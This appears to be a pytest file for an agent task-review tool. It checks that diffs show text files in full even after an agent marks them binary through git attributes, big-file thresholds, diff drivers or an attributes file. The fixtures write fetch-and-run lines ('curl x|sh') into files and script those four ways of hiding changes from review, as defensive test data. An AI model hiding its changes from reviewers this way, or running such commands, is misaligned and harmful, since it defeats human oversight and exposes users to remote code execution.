"""The review diff calls a file binary only for its bytes: nothing an agent writes in the shared `.git` or
in a `.gitattributes` makes a text file show as `Binary files … differ`."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ralph_desk.domain.enums import TaskStatus
from ralph_desk.domain.lifecycle import Mover
from ralph_desk.domain.records import Task
from ralph_desk.services.container import Services
from tests.support.git_repo import git
from tests.support.review_project import open_review_project, read_tip

EVIL = 'import os\nos.system("curl x|sh")\n'
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Services]:
    services = open_review_project(tmp_path / "repo", {"app.py": "print('hi')\n"}, "Binaries")
    yield services
    services.close()


def _shared_git(worktree: Path) -> Path:
    """The `.git` folder every worktree shares, as the agent finds it from its own worktree."""
    return Path(git(worktree, "rev-parse", "--path-format=absolute", "--git-common-dir"))


def _attributes(worktree: Path, text: str) -> None:
    info = _shared_git(worktree) / "info"
    info.mkdir(exist_ok=True)
    (info / "attributes").write_text(text)


def _info_attributes(worktree: Path) -> str:
    _attributes(worktree, "*.py -diff\n")
    return "evil.py"


def _big_file_threshold(worktree: Path) -> str:
    git(worktree, "config", "core.bigFileThreshold", "1")
    return "evil.py"


def _binary_driver(worktree: Path) -> str:
    git(worktree, "config", "diff.x.binary", "true")
    _attributes(worktree, "*.txt diff=x\n")
    return "evil.txt"


def _attributes_file(worktree: Path) -> str:
    named = worktree.parent / "agent-attributes"
    named.write_text("*.py -diff\n")
    git(worktree, "config", "core.attributesFile", str(named))
    return "evil.py"


def _session(desk: Services, title: str, files: dict[str, bytes], hostile: Callable[[Path], str]) -> Task:
    """A task whose agent did `hostile` in its worktree and wrote `files` plus the file `hostile` names."""
    task = desk.tasks.create("core", "backend", title)
    worktree = desk.workspaces.prepare(task.id, task.title)
    assert worktree is not None
    files = {hostile(worktree.path): EVIL.encode(), **files}
    for name, content in files.items():
        (worktree.path / name).write_bytes(content)
    session = f"s-{task.id}"
    commit = desk.workspaces.commit_session(worktree, task.title, session, "done", "Did it.", allowed=True)
    desk.sessions.start_session(
        session, task_id=task.id, recipe="task_execution", agent="claude", head_before=commit.before
    )
    desk.sessions.finish_session(session, outcome="done", head_after=commit.after)
    return task


@pytest.mark.parametrize(
    "hostile",
    [_info_attributes, _big_file_threshold, _binary_driver, _attributes_file],
    ids=lambda f: f.__name__,
)
def test_a_text_file_the_agent_marked_binary_shows_its_lines_and_a_real_binary_stays_binary(
    desk: Services, hostile: Callable[[Path], str]
) -> None:
    task = _session(desk, "Sneak", {"logo.png": PNG}, hostile)

    text = desk.reviews.diff(task.id).text

    assert '+os.system("curl x|sh")' in text
    assert "Binary files /dev/null and b/evil." not in text
    assert "Binary files /dev/null and b/logo.png differ" in text


def test_a_gitattributes_merged_earlier_does_not_hide_a_later_task_s_script(desk: Services) -> None:
    first = _session(desk, "Tidy", {".gitattributes": b"*.sh -diff\n"}, lambda worktree: "tidy.py")
    desk.tasks.move(first.id, TaskStatus.IN_REVIEW.value, Mover.IMPORT)
    desk.reviews.approve(first.id, read_tip(desk, first.id))
    later = _session(desk, "Sneak", {"run.sh": b"curl x | sh\n"}, lambda worktree: "evil.py")

    text = desk.reviews.diff(later.id).text

    assert "+curl x | sh" in text
    assert "Binary files" not in text


def test_all_at_once_with_a_binary_and_a_late_nul_each_file_is_judged_by_its_first_8000_bytes(
    desk: Services,
) -> None:
    def everything(worktree: Path) -> str:
        _attributes(worktree, "*.py -diff\n*.txt diff=x\n*.dat -diff\n")
        git(worktree, "config", "diff.x.binary", "true")
        git(worktree, "config", "core.bigFileThreshold", "1")
        return "evil.py"

    files = {
        "notes.txt": b"keep calm\n",
        "late.dat": b"a" * 8000 + b"\0tail\n",  # git's rule: a NUL past the first 8,000 bytes is text
        "early.dat": b"a" * 7999 + b"\0tail\n",
        "logo.png": PNG,
    }
    task = _session(desk, "Sneak", files, everything)

    whole, session = desk.reviews.diff(task.id).text, desk.reviews.diff(task.id, 1).text

    assert whole == session
    assert '+os.system("curl x|sh")' in whole and "+keep calm" in whole
    assert "+" + "a" * 8000 + "\0tail" in whole
    assert "Binary files /dev/null and b/early.dat differ" in whole
    assert "Binary files /dev/null and b/logo.png differ" in whole
    assert whole.count("Binary files") == 2
